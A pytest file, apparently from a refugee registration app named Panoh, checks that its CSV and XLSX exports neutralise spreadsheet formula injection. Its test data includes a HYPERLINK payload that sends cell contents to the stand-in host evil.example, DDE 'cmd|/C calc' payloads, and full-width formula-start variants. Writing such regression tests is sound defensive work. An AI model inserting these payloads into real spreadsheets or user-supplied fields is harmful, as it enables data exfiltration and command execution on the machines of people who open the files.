"""No cell of any CSV or XLSX Panoh writes can run as a formula, whatever a user typed into it.

Each writer gets hostile text where a user can put it, and the file is read back: no CSV cell starts
like a formula, no XLSX cell is a formula or a text starting like one.
"""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl
import pytest
from sqlalchemy import select

from app.tabular import defuse, defuse_row
from camps.distributions import exports as round_exports
from camps.figures import hxl, stats
from registration.dedup.models import DuplicatePair
from registration.households import desk

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
#: the full-width and whitespace-led variants that a spreadsheet may also read as formulas
VARIANTS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
]


def looks_like_formula(value) -> bool:
    if not isinstance(value, str):
        return False
    text = value.lstrip(" \u00a0\u3000")
    return text.startswith(STARTS) and defuse(value) != value


def csv_cells(text: str) -> list[str]:
    """Every cell of the whole file, the About lines included, as a spreadsheet splits them."""
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


def xlsx_problems(data: bytes) -> list[tuple]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or looks_like_formula(cell.value)
    ]


# --- the rule ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", VARIANTS)
def test_every_formula_start_gets_an_apostrophe(value):
    # after a leading tab or line break as well: Excel with ';' as its list separator starts a cell there
    expected = "'" + value[0] + "'" + value[1:] if value[0] in "\t\r" else "'" + value
    assert defuse(value) == expected


@pytest.mark.parametrize(
    "value", ["+992 93 123 4567", "+992931234567", "Ahmad", "KHR-000001-7", "", "a=b", 7, None, 2.5, date(2026, 1, 1)]
)
def test_harmless_values_stay_as_they_are(value):
    assert defuse(value) == value


def test_a_row_is_defused_cell_by_cell():
    assert defuse_row(["=1", 2, "x"]) == ["'=1", 2, "x"]


# --- the person list (CSV About lines and rows, XLSX list and About sheet) ---------------------------


def _export_form(**overrides) -> dict:
    return {
        "kind": "persons",
        "format": "csv",
        "camp": "",
        "status": "active",
        "former_members": False,
        "purpose": "other",
        "purpose_detail": f"Census, {HOSTILE}",
        "agreement": "",
        **overrides,
    }


def _hostile_household(make, session):
    household = make.household("KHR", members=2)
    household.members[0].given_name = '@SUM(1+1)*cmd|"/C calc"!A0'
    household.members[1].family_name = "＝1+1"
    session.flush()
    return household


def test_the_person_list_csv_has_no_formula_in_its_about_lines_or_rows(client, login_as, make, session):
    """Fails on main before this change: the purpose text split into a cell of its own, starting with '='."""
    _hostile_household(make, session)
    login_as("registration_clerk", "KHR")
    response = client.post("/exports", data=_export_form())
    assert response.status_code == 200
    text = response.get_data(as_text=True)
    cells = csv_cells(text)
    assert [c for c in cells if looks_like_formula(c)] == []
    assert any(HOSTILE in cell for cell in cells)  # still there, as text
    lines = text.lstrip("\ufeff").splitlines()
    about = list(csv.reader(lines[:8]))
    assert all(len(row) == 1 and row[0].startswith("# ") for row in about), about


def test_the_person_list_xlsx_has_text_cells_only(client, login_as, make, session):
    """Fails on main before this change: the names went in as they were typed (='…' when edited)."""
    _hostile_household(make, session)
    login_as("registration_clerk", "KHR")
    response = client.post("/exports", data=_export_form(format="xlsx"))
    assert response.status_code == 200
    data = response.get_data()
    response.close()  # deletes the temporary file
    assert xlsx_problems(data) == []


# --- the HXL statistics ----------------------------------------------------------------------------


def test_the_hxl_statistics_keep_a_hostile_camp_name_as_text(client, login_as, make, session):
    """Fails on main before this change: the camp name became a live formula in stats.xlsx."""
    make.camp("KHR", name=HOSTILE)
    for _ in range(3):
        make.household("KHR", members=4)
    login_as("viewer", None)
    xlsx = client.get("/figures/stats.xlsx")
    assert xlsx.status_code == 200
    assert xlsx_problems(xlsx.data) == []
    for table in ("population", "origin"):
        body = client.get(f"/figures/stats.csv?table={table}")
        assert body.status_code == 200
        rows = list(csv.reader(io.StringIO(body.data.decode())))
        assert rows[1][0].startswith("#")  # still HXL: the hashtag row
        assert [c for row in rows for c in row if looks_like_formula(c)] == []
        assert any(HOSTILE in c for row in rows for c in row)


def test_the_hxl_writers_defuse_every_cell(make, session):
    camp = make.camp("KHR", name="-2+3")
    rows = stats.origin_rows(session, [camp])
    rows.append(stats.Row(camp, province="+1", true={"total": 9, "hh": 2}, values={"total": 9, "hh": 2}))
    text = hxl.to_csv(hxl.ORIGIN_COLUMNS, rows, date(2026, 11, 28)).decode()
    assert [c for c in csv_cells(text) if looks_like_formula(c)] == []
    about = [("Exported by", "=evil"), ("Camps", "@x")]
    assert xlsx_problems(hxl.to_xlsx({"origin": rows}, date(2026, 11, 28), about)) == []


# --- the duplicate pairs CSV (panoh registration duplicates) --------------------------------------


def _register(session, camp, given, given_orig, source_ref):
    raw = {
        "camp_id": camp.id,
        "arrival_date": date(2026, 10, 1),
        "consent": True,
        "members": [
            {
                "given_name": given,
                "given_name_orig": given_orig,
                "father_name": "Karim",
                "sex": "m",
                "born": "1985",
                "relation_to_head": "head",
                "source_ref": source_ref,
            }
        ],
    }
    household, _ = desk.register_household(
        session, None, desk.clean_household(session, None, raw, date.today()), check_duplicates=False
    )
    return household


def test_the_duplicates_csv_defuses_source_references(app, session, make, tmp_path):
    """Fails on main before this change: a source_ref set through the API came out as a formula."""
    camp = make.camp("KHR")
    _register(session, camp, "Mohammad", "محمد", HOSTILE)
    _register(session, camp, "Muhammad", "Муҳаммад", "－1+1")
    session.execute(DuplicatePair.__table__.delete())
    out = tmp_path / "pairs.csv"
    result = app.test_cli_runner().invoke(args=["registration", "duplicates", "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = csv_cells(out.read_text(encoding="utf-8"))
    assert [c for c in cells if looks_like_formula(c)] == []
    assert "'" + HOSTILE in cells
    assert session.scalar(select(DuplicatePair)) is not None


# --- a distribution round's export ---------------------------------------------------------------


def test_a_rounds_export_defuses_points_and_names(app):
    """Fails on main before this change: full-width signs were not caught."""
    rows = [("KHR-000001-7", 4, "B01", "KHR-B01-001", "yes", "2026-11-28 10:00:00", "=point", "＋Ahmad", "ok")]
    with app.test_request_context():
        text = "".join(round_exports.csv_chunks(iter(rows)))
        data = b"".join(round_exports.xlsx_chunks(iter(rows), "Round 1"))
    assert [c for c in csv_cells(text) if looks_like_formula(c)] == []
    assert xlsx_problems(data) == []


# --- a spreadsheet that splits cells at ';' or at every line break -----------------------------------


def excel_with_semicolons(text: str) -> list[str]:
    """The cells Excel makes of a CSV file where the list separator is ';' (Russian and Tajik Windows): it
    splits at every ';' and line break, and honours a quote only at the start of what it takes for a cell."""
    return [
        cell
        for line in text.lstrip("\ufeff").replace("\r\n", "\n").replace("\r", "\n").split("\n")
        for cell in line.split(";")
    ]


def live_in_excel_with_semicolons(text: str) -> list[str]:
    return [cell for cell in excel_with_semicolons(text) if looks_like_formula(cell.lstrip('"'))]


@pytest.mark.parametrize(
    "value", ["x;=cmd|' /C calc'!A0;", "Kabul; +1+1", "a\n=1+1", "a\r\n@SUM(1)", "a\t-2+3", "x;＝1+1"]
)
def test_no_formula_starts_after_a_separator_or_a_line_break(value):
    """Fails on main before this change: "x;=cmd|' /C calc'!A0;" was written as it was, and Excel with ';' as
    its list separator made "=cmd|' /C calc'!A0" a cell of its own (a DDE call)."""
    out = io.StringIO()
    csv.writer(out).writerow(["KHR-000001-7", defuse(value), "ok"])
    assert live_in_excel_with_semicolons(out.getvalue()) == []


@pytest.mark.parametrize("value", ["Ahmad; +992 93 765 4321", "a;b", "a; b=c", "a\nb"])
def test_harmless_text_after_a_separator_stays(value):
    assert defuse(value) == value


def test_a_rounds_csv_and_the_person_list_split_at_semicolons_run_nothing(app, client, login_as, make, session):
    """Fails on main before this change: a point "x;=cmd|' /C calc'!A0;" sent by a device and a purpose with
    "; =HYPERLINK(...)" became formula cells for Excel with ';' as its list separator."""
    rows = [
        ("KHR-000001-7", 4, "B01", "KHR-B01-001", "yes", "2026-11-28 10:00:00", "x;=cmd|' /C calc'!A0;", "head", "ok"),
        ("KHR-000002-5", 3, "B01", "KHR-B01-002", "yes", "2026-11-28 10:00:00", "a\n=1+1", "head", "ok"),
    ]
    with app.test_request_context():
        text = "".join(round_exports.csv_chunks(iter(rows)))
    assert live_in_excel_with_semicolons(text) == []
    _hostile_household(make, session)
    login_as("registration_clerk", "KHR")
    response = client.post("/exports", data=_export_form(purpose_detail="Census; =cmd|' /C calc'!A0;"))
    assert response.status_code == 200
    assert live_in_excel_with_semicolons(response.get_data(as_text=True)) == []


# --- control characters, which XLSX cannot hold ------------------------------------------------------


def test_a_control_character_in_a_name_does_not_break_the_xlsx_files(client, login_as, make, session, app):
    """Fails on main before this change: openpyxl raised IllegalCharacterError (a 500) on a camp name or a
    distribution point holding a control character such as BEL, which a scanner or a paste can bring."""
    make.camp("KHR", name="Khuroson\x07 camp")
    for _ in range(3):
        make.household("KHR", members=4)
    login_as("viewer", None)
    xlsx = client.get("/figures/stats.xlsx")
    assert xlsx.status_code == 200
    assert xlsx_problems(xlsx.data) == []
    rows = [("KHR-000001-7", 4, "B01", "KHR-B01-001", "yes", "2026-11-28 10:00:00", "gate\x07", "Ahmad\x00", "ok")]
    with app.test_request_context():
        data = b"".join(round_exports.xlsx_chunks(iter(rows), "Round 1"))
    assert xlsx_problems(data) == []
